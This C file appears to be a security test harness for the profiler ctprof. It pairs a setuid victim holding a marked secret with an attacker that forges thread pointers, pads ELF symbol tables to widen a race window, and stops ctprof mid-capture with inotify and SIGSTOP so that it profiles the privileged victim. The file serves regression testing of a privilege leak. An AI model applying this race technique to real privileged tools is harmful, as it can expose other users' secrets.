/* A process that executes another program while ctprof examines it. It is run by an ordinary user.
 *
 * -DVICTIM: the program that it executes, setuid: all that it knows is secret. Only the counters of `tsd_tls`, the data of
 * jemalloc's kind, are for all to see.
 *
 * `attack_exec where` prints the address of the secret, and the distance of the counters from the thread pointer.
 * `attack_exec pad FILE` makes the symbols of a program take long to read.
 * `attack_exec run CTPROF ENGINE SNAPSHOT VICTIM POINTER PREYS` starts processes with that thread pointer (0: its own)
 * and a ctprof that captures them. When ctprof opens this program, it is stopped until the last of the processes has
 * executed the victim. Prints `ran` if it has. */
#define _GNU_SOURCE
#include <elf.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define SECRET 0x5ec7e75ec7e7
#define WORDS 512

struct tsd_s {
    char before[40];
    uint64_t thread_deallocated;
    uint32_t between[3];
    uint64_t thread_allocated;
    char after[24];
};

/* Initialized data comes first in a block. */
#ifdef VICTIM
#define INITIAL
#else
#define INITIAL = { .between = { 1 } }
#endif
static __thread struct tsd_s tsd_tls __attribute__((used, tls_model("initial-exec"))) INITIAL;

static uintptr_t pointer(void) {
    return (uintptr_t)__builtin_thread_pointer();
}

static void where(void *secret) {
    printf("%lu %ld\n", (unsigned long)(uintptr_t)secret, (long)((uintptr_t)&tsd_tls.thread_deallocated - pointer()));
}

#ifdef VICTIM
static volatile uint64_t secret[WORDS];
/* Below the thread pointer, or above, wherever a program has its block. */
static __thread volatile uint64_t own[WORDS];

int main(int argc, char **argv) {
    char byte;
    for (int word = 0; word < WORDS; word++) secret[word] = own[word] = SECRET;
    if (argc > 1 && !strcmp(argv[1], "where")) {
        where((void *)secret);
        return 0;
    }
    if (write(1, "v", 1) != 1) return 1;
    /* Until its input ends. */
    while (read(0, &byte, 1) > 0) {}
    return 0;
}
#else
/* So that its counters are at another distance than the victim's, which are no secret. */
static __thread volatile char spare[1000];

/* A million symbols without a name before those that there are. */
static int pad(const char *file) {
    const uint64_t hole = sizeof(Elf64_Sym) << 20;
    struct stat status;
    int fd = open(file, O_RDWR);
    if (fd < 0 || fstat(fd, &status)) return 1;
    uint64_t end = (status.st_size + 63) & ~63ul;
    char *bytes = mmap(NULL, status.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (bytes == MAP_FAILED) return 1;
    Elf64_Ehdr *header = (void *)bytes;
    Elf64_Shdr *section = (void *)(bytes + header->e_shoff);
    for (int number = 0; number < header->e_shnum; number++, section++) {
        if (section->sh_type != SHT_SYMTAB) continue;
        ssize_t size = section->sh_size;
        if (pwrite(fd, bytes + section->sh_offset, size, end + hole) != size) return 1;
        section->sh_offset = end;
        section->sh_size += hole;
        return 0;
    }
    return 1;
}

static long call(long number, long a, long b, long c) {
#ifdef __x86_64__
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
#endif
}

/* With a thread pointer of its own choice, nothing of the C library may run. */
__attribute__((noreturn, noinline, optimize("no-stack-protector"))) static void prey(uintptr_t chosen, int go, int said,
                                                                                     char **victim, char **environment) {
    char byte;
    if (chosen) {
#ifdef __x86_64__
        call(SYS_arch_prctl, 0x1002 /* ARCH_SET_FS */, chosen, 0);
#else
        __asm__ volatile("msr tpidr_el0, %0" : : "r"(chosen));
#endif
    }
    call(SYS_write, said, (long)"p", 1);
    call(SYS_read, go, (long)&byte, 1);
    call(SYS_execve, (long)victim[0], (long)victim, (long)environment);
    for (;;) call(SYS_exit_group, 1, 0, 0);
}

static int ready(int fd, int seconds) {
    struct pollfd polled = { fd, POLLIN, 0 };
    return poll(&polled, 1, seconds * 1000) == 1;
}

int main(int argc, char **argv) {
    int go[8][2], said[2];
    pid_t processes[8], ctprof;
    char pids[8][16], byte, events[4096];
    char *options[32] = { argv[2], "capture", getenv("LOUD") ?: "--quiet", "--jobs", "1", "--smaps", "never", "--engine", argv[3], "-o", argv[4] };
    int next = 11, executed = 0, status;
    spare[argc] = 1;
    if (argc == 2) {
        where(NULL);
        return 0;
    }
    if (argc == 3) return pad(argv[2]);
    if (argc != 8) return 2;
    int preys = atoi(argv[7]);
    int watch = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    if (preys < 1 || preys > 8 || inotify_add_watch(watch, "/proc/self/exe", IN_OPEN) < 0 || pipe(said)) return 3;
    for (int number = 0; number < preys; number++) {
        if (pipe(go[number])) return 3;
        processes[number] = fork();
        if (processes[number] == 0) {
            dup2(go[number][0], 0);
            dup2(said[1], 1);
            /* The input of each ends with this process. */
            for (int other = 0; other <= number; other++) close(go[other][1]);
            prey(strtoul(argv[6], NULL, 0), 0, 1, (char *[]) { argv[5], NULL }, (char *[]) { NULL });
        }
        if (!ready(said[0], 10) || read(said[0], &byte, 1) != 1) return 4;
        snprintf(pids[number], sizeof *pids, "%d", processes[number]);
        /* BPF reads all processes. */
        if (!strcmp(argv[3], "bpf")) continue;
        options[next++] = "--pid";
        options[next++] = pids[number];
    }
    ctprof = fork();
    if (ctprof == 0) {
        for (int number = 0; number < preys; number++) close(go[number][1]);
        execv(options[0], options);
        _exit(127);
    }
    for (int waited = 0; waited < 3000; waited++) {
        struct pollfd polled = { watch, POLLIN, 0 };
        if (poll(&polled, 1, 10) == 1) {
            if (read(watch, events, sizeof events) <= 0) return 5;
            kill(ctprof, SIGSTOP);
            if (waitpid(ctprof, &status, WUNTRACED) != ctprof || !WIFSTOPPED(status)) break;
            if (write(go[preys - 1][1], "g", 1) != 1) return 6;
            executed = ready(said[0], 10) && read(said[0], &byte, 1) == 1 && byte == 'v';
            kill(ctprof, SIGCONT);
            break;
        }
        if (waitpid(ctprof, &status, WNOHANG) == ctprof) return 7;
    }
    waitpid(ctprof, &status, 0);
    for (int number = 0; number < preys; number++) close(go[number][1]);
    for (int number = 0; number + 1 < preys; number++) kill(processes[number], SIGKILL);
    while (wait(NULL) > 0) {}
    if (executed) puts("ran");
    return !WIFEXITED(status) || WEXITSTATUS(status);
}
#endif
